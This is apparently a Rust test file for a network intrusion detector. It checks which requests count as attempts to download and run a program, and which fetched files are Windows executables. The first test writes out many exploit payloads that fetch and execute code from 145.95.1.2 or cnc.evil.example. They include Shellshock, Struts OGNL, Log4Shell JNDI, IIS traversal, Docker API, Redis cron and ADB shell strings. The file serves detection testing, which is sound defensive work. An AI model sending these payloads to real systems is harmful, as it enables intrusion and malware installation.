//! Command lines that would fetch a program, and programs that are fetched.

use crate::messages::{answer, form, get, noise, percent, post, request};
use crate::table::{ATTEMPT, NOTHING, PROGRAM, Table, Way};

#[test]
fn programs_would_be_fetched() {
    let mut table = Table::default();
    let ok = answer("text/html", b"ok");
    for target in [
        "/shell?cd+/tmp;rm+-rf+*;wget+http://145.95.1.2/jaws;sh+/tmp/jaws",
        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://145.95.1.2/m+-O+/tmp/n;sh+n&curpath=/",
        "/language/Swedish${IFS}&&cd${IFS}/tmp;wget${IFS}http://145.95.1.2/a;sh${IFS}/tmp/a",
        "/ping.php?host=127.0.0.1%0awget%20http://145.95.1.2/a.sh%20-O%20/tmp/a.sh%0ash%20/tmp/a.sh",
        "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22wget%20-O%20/tmp/x%20http%3A%2F%2F145.95.1.2%2Fx%22%29%29%7D/",
        "/?x=${${env:ENV_NAME:-j}nd${env:ENV_NAME:-i}${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//145.95.1.2/a}",
        "/scripts/..%255c../winnt/system32/cmd.exe?/c+certutil+-urlcache+-split+-f+http://145.95.1.2/a.exe+c:%5Ca.exe",
        "/shell?cd+/tmp;wget+http://cnc.evil.example/a.sh;chmod+777+a.sh;sh+a.sh",
    ] {
        table.web(target, ATTEMPT, None, &get(target), &ok);
    }
    for fields in [
        "User-Agent: () { :; }; /bin/bash -c \"wget http://145.95.1.2/x -O /tmp/x; sh /tmp/x\"\r\n",
        "Content-Type: %{(#a='multipart/form-data').(#cmd='wget http://145.95.1.2/st -O /tmp/st; sh /tmp/st').(#p=#a)}\r\n",
        "User-Agentt: zerodiumsystem(\"wget http://145.95.1.2/z -O /tmp/z; sh /tmp/z\");\r\n",
        "SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && wget http://145.95.1.2/h && chmod 777 h && ./h`\r\n",
    ] {
        table.web(fields, ATTEMPT, None, &request("GET /", fields, b""), &ok);
    }
    let docker = r#"{"Image":"alpine","Cmd":["/bin/sh","-c","chroot /mnt sh -c \"curl -s http://145.95.1.2/c.sh | bash\""]}"#;
    table.web("docker", ATTEMPT, None, &post("/v1.24/containers/create", "application/json", docker.as_bytes()), &ok);
    let cron = b"*3\r\n$3\r\nset\r\n$1\r\nx\r\n$57\r\n\n\n*/1 * * * * curl -fsSL http://145.95.1.2/ash.sh | sh\n\n\r\n";
    table.add(
        "redis",
        Way::In,
        6379,
        ATTEMPT,
        None,
        &[(true, b"*1\r\n$4\r\nPING\r\n"), (false, b"+PONG\r\n"), (true, cron), (false, b"+OK\r\n")],
    );
    let message = |name: &[u8; 4], data: &[u8]| {
        let numbers = [1, 0, data.len() as u32, 0].iter().flat_map(|number| number.to_le_bytes()).collect::<Vec<u8>>();
        [&name[..], &numbers, &name.map(|byte| !byte), data].concat()
    };
    let open = message(b"OPEN", b"shell:cd /data/local/tmp; busybox wget http://145.95.1.2/adb -O adb; sh adb\0");
    let (hello, back) = (message(b"CNXN", b"host::\0"), message(b"CNXN", b"device::\0"));
    table.add("adb", Way::In, 5555, ATTEMPT, None, &[(true, &hello), (false, &back), (true, &open)]);
    let (shell, typed) =
        (message(b"OPEN", b"shell:\0"), message(b"WRTE", b"cd /data/local/tmp; curl http://145.95.1.2/a -o a; chmod 777 a; ./a\n"));
    table.add(
        "adb, typed",
        Way::In,
        5555,
        ATTEMPT,
        None,
        &[(true, &hello), (false, &back), (true, &shell), (false, &back), (true, &typed)],
    );
    let listed = message(b"OPEN", b"shell,v2,raw:ls -l /data/local/tmp\0");
    table.add("adb, looking around", Way::In, 5555, NOTHING, None, &[(true, &hello), (false, &back), (true, &listed)]);
    for (name, quiet) in [
        ("search", get("/search?q=wget+http%3A%2F%2Fexample.org%2Fa.tar.gz+chmod+777")),
        ("template", form("/mail", &format!("body={}", percent("Dear ${user.name}, your code is ${code}.")))),
        (
            "health",
            post(
                "/v1.41/containers/create",
                "application/json",
                br#"{"Healthcheck":{"Test":["CMD-SHELL","curl -f http://localhost:8080/health || exit 1"]}}"#,
            ),
        ),
        (
            "ticket",
            post(
                "/api/tickets",
                "application/json",
                br#"{"body":"We found this in our logs, is it bad?\ncd /tmp; wget http://145.95.1.2/b.sh; sh b.sh\nPlease advise."}"#,
            ),
        ),
    ] {
        table.web(name, NOTHING, None, &quiet, &ok);
    }
    table.check();
}

/// A PE file's head, and nothing behind it that matters.
fn program() -> Vec<u8> {
    let mut file = noise(2000);
    file[..2].copy_from_slice(b"MZ");
    file[0x3c..0x40].copy_from_slice(&0x80_u32.to_le_bytes());
    file[0x80..0x86].copy_from_slice(b"PE\0\0\x4c\x01");
    file[0x98..0x9a].copy_from_slice(b"\x0b\x01");
    file
}

#[test]
fn what_people_and_programs_fetch() {
    let mut table = Table::default();
    let fetch =
        |host: &str, path: &str, agent: &str| format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\n\r\n").into_bytes();
    let (browser, any) = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "application/octet-stream");
    for (name, kinds, request, kind) in [
        ("as a picture, from an address", PROGRAM, fetch("145.95.1.2:8000", "/a.jpg", browser), "image/jpeg"),
        ("an installer", NOTHING, fetch("dl.vendor.example", "/setup.exe", browser), any),
        ("an update", NOTHING, fetch("au.download.windowsupdate.com", "/x.exe", "Windows-Update-Agent/10.0"), any),
        ("a browser's update", NOTHING, fetch("edgedl.me.gvt1.com", "/x.exe", "Microsoft BITS/7.8"), any),
        ("a driver, by one who browses", NOTHING, fetch("145.95.1.3", "/driver.exe", browser), any),
    ] {
        table.add(name, Way::Out, 80, kinds, None, &[(true, &request), (false, &answer(kind, &program()))]);
    }
    table.check();
}
